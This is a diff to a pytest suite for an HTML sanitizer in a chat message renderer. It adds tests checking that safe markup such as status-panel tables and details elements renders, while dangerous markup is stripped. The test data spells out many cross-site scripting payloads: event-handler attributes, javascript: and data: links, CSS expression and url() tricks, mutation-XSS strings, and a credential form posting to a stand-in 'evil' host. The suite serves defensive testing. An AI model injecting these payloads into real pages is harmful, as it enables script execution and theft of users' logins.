@@ -41,7 +41,7 @@ def assert_inert(html: str) -> None:
         assert tag not in FORBIDDEN_TAGS, html
         assert not any(name.startswith("on") for name in attrs), html
         assert "src" not in attrs, html
-        assert "style" not in attrs or tag in {"th", "td"}, html  # table alignment only
+        assert "style" not in attrs, html  # the site's CSP forbids style attributes
         if "href" in attrs:
             href = attrs["href"] or ""
             assert tag == "a" and SAFE_HREF.match(href), html
@@ -96,6 +96,10 @@ XSS_VECTORS = [
     "<!-- <script>alert(1)</script> -->",
     "<![CDATA[<script>alert(1)</script>]]>",
     "\x00<script>alert(1)</script>",
+    "<sup/onload=alert(1)>x</sup>",
+    "<details open ontoggle=alert(1)>",
+    '<div style="background:url(javascript:alert(1))">x</div>',
+    '<span style="x:expression(alert(1))">x</span>',
 ]
 
 
@@ -105,18 +109,174 @@ def test_xss_vectors_are_inert(text):
 
 
 @pytest.mark.parametrize(
-    "text",
+    ("text", "kept"),
     [
-        "<script>alert(1)</script>",
-        "<img src=x onerror=alert(1)>",
-        "<iframe src='https://evil'></iframe>",
-        '<a href="x">click</a>',
+        ("<script>alert(1)</script>after", "after"),
+        ("<style>body{display:none}</style>after", "after"),
+        ("<iframe src='https://evil'>inside</iframe>after", "after"),
+        ("<object data=x.swf><param name=a value=b>inside</object>after", "after"),
+        ("<embed src=x.swf>after", "after"),
+        ("<svg><a href='https://example.com'>inside</a></svg>after", "after"),
+        ("<textarea><b>inside</b></textarea>after", "after"),
+        ("<noscript><img src=x></noscript>after", "after"),
     ],
 )
-def test_raw_html_shows_as_text(text):
+def test_elements_that_run_or_embed_are_dropped_with_their_content(text, kept):
     html = render_message(text)
-    assert html.startswith("<p>&lt;")
-    assert {tag for tag, _ in tags_of(html)} <= {"p", "span"}
+    assert_inert(html)
+    assert "inside" not in html and kept in html
+    assert "alert" not in html and "evil" not in html
+
+
+@pytest.mark.parametrize(
+    ("text", "kept"),
+    [
+        (
+            "<form action='https://evil/steal' method=post>"
+            "<input name=pw value=x>Log in<button>Go</button></form>",
+            "Log in",
+        ),
+        ("<img src=x onerror=alert(1)>caption", "caption"),
+        ("<font color=red>warm</font>", "warm"),
+        ("<center>middle</center>", "middle"),
+        ("<select><option>one</option></select><label>name</label>", "name"),
+    ],
+)
+def test_other_html_elements_lose_their_tag_and_keep_their_text(text, kept):
+    html = render_message(text)
+    assert_inert(html)
+    assert kept in html
+    assert not {tag for tag, _ in tags_of(html)} & {
+        "form",
+        "input",
+        "button",
+        "img",
+        "font",
+        "center",
+        "select",
+    }
+    assert "evil" not in html and "onerror" not in html
+
+
+@pytest.mark.parametrize("text", ["I <grin> at you", "she <sighs> softly", "a <3 b"])
+def test_tags_that_are_no_html_element_show_as_text(text):
+    html = render_message(text)
+    assert tags_of(html) == [("p", {})]
+    assert html.startswith("<p>") and "&lt;" in html
+
+
+STATUS_PANEL = """<details open>
+<summary>📊 Status</summary>
+<div class="status-panel">
+<table class="stats">
+<tr><th scope="row">HP</th><td colspan="2"><span class="bar hp">80/100</span></td></tr>
+<tr><th>Mood</th><td>Wary<sup>1</sup> H<sub>2</sub>O</td></tr>
+</table>
+<hr>
+<small>Day 3, evening<br>Location: the harbour</small>
+<ruby>港<rp>(</rp><rt>minato</rt><rp>)</rp></ruby>
+</div>
+</details>"""
+
+
+def test_a_status_panel_renders_as_html():
+    html = render_message(STATUS_PANEL)
+    assert_inert(html)
+    tags = tags_of(html)
+    names = [tag for tag, _ in tags]
+    for tag in (
+        "details",
+        "summary",
+        "div",
+        "table",
+        "tr",
+        "th",
+        "td",
+        "span",
+        "sup",
+        "sub",
+        "hr",
+        "small",
+        "br",
+    ):
+        assert tag in names, tag
+    for tag in ("ruby", "rp", "rt"):
+        assert tag in names, tag
+    assert ("details", {"open": ""}) in tags
+    assert ("div", {"class": "status-panel"}) in tags
+    assert ("td", {"colspan": "2"}) in tags
+    assert ("th", {"scope": "row"}) in tags
+    assert ("span", {"class": "bar hp"}) in tags
+    assert "80/100" in html and "Location: the harbour" in html
+
+
+def test_markdown_still_works_around_inline_html():
+    html = render_message('*waves* <span class="tag">HP 5</span> "Hello," she says.')
+    assert html == (
+        '<p><em>waves</em> <span class="tag">HP 5</span> '
+        '<span class="speech">&quot;Hello,&quot;</span> she says.</p>\n'
+    )
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '<div style="color: #c33; font-weight: bold">x</div>',
+        '<div style="background: url(https://evil/x.png); color: red">x</div>',
+        '<div style="background-image: url(javascript:alert(1))">x</div>',
+        '<div style="width: expression(alert(1))">x</div>',
+        '<div style="color: red; position: fixed; top: 0; z-index: 9999">x</div>',
+        '<div style="color: \\72\\65\\64">x</div>',
+        '<div style="behavior: url(x.htc)">x</div>',
+        "| a | b |\n|--:|:-:|\n| 1 | 2 |",
+    ],
+)
+def test_style_attributes_never_reach_the_page(text):
+    html = render_message(text)
+    assert_inert(html)
+    assert "style" not in html and "url(" not in html and "expression" not in html
+    assert all("style" not in attrs for _, attrs in tags_of(html))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '<div onclick="alert(1)" onmouseover=alert(1) class="a">x</div>',
+        '<details ontoggle="alert(1)" open>x</details>',
+        '<a href="javascript:alert(1)">x</a>',
+        '<a href=" JaVaScRiPt:alert(1)">x</a>',
+        '<a href="java&#x09;script:alert(1)">x</a>',
+        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+        '<span class="a" id="admin-panel" data-x="1" tabindex="0">x</span>',
+        '<div class="x&quot; onclick=&quot;alert(1)">x</div>',
+        "<table><tr><td background=javascript:alert(1) colspan=2x>x</td></tr></table>",
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+        "<details><summary>a</summary><script>alert(1)</script></details>",
+        "<!--><script>alert(1)</script>-->",
+        "<div><iframe srcdoc='<script>alert(1)</script>'></iframe></div>",
+        "<base href='https://evil/'><a href='https://ok.example'>x</a>",
+        "<meta http-equiv=refresh content='0;url=https://evil'>",
+        "<link rel=stylesheet href=https://evil/x.css>",
+    ],
+)
+def test_html_attacks_are_inert(text):
+    html = render_message(text)
+    assert_inert(html)
+    for needle in ("alert", "evil", "onclick", "ontoggle", "onload", "id=", "data-x", "tabindex"):
+        assert needle not in html, html
+
+
+def test_raw_links_get_the_same_treatment_as_markdown_links():
+    html = render_message('<a href="https://example.com/a" target="_self" rel="opener">site</a>')
+    assert ("a", {**LINK_ATTRS, "href": "https://example.com/a"}) in tags_of(html)
+
+
+@pytest.mark.parametrize("text", ["<div><span>open", "</div></table>stray", "<table><tr><td>cell"])
+def test_unbalanced_html_cannot_break_the_page(text):
+    html = render_message(text)
+    opened = [tag for tag, _ in tags_of(html) if tag not in {"br", "hr", "wbr"}]
+    assert all(html.count(f"</{tag}>") == html.count(f"<{tag}") for tag in set(opened)), html
+    assert "&lt;/div" not in html
 
 
 @pytest.mark.parametrize(
